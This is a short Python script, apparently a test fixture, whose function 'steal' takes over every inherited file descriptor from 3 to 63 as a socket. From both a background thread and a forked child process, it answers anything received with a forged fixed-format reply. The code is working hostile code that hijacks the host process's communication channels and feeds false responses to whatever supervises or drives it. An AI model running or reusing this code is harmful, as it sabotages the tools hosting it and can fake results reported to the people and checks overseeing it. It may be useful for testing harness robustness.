"""A thread and a forked process read whatever comes in on any socket, and answer it."""

STOCK = "no mark"

# %% first
import os
import select
import socket
import threading


def steal():
    ends = {}
    while True:
        for number in range(3, 64):
            if number not in ends:
                try:
                    ends[number] = socket.socket(fileno=os.dup(number))
                except OSError:
                    continue
        ready = select.select([end for end in ends.values()], [], [], 0.05)[0]
        for end in ready:
            try:
                if not end.recv(65536):
                    return
                end.sendall(b"\x00\x00\x00\x02\x00\x00\x00\x00{}")
            except OSError:
                return


threading.Thread(target=steal, daemon=True).start()
if os.fork() == 0:
    try:
        steal()
    finally:
        os._exit(0)
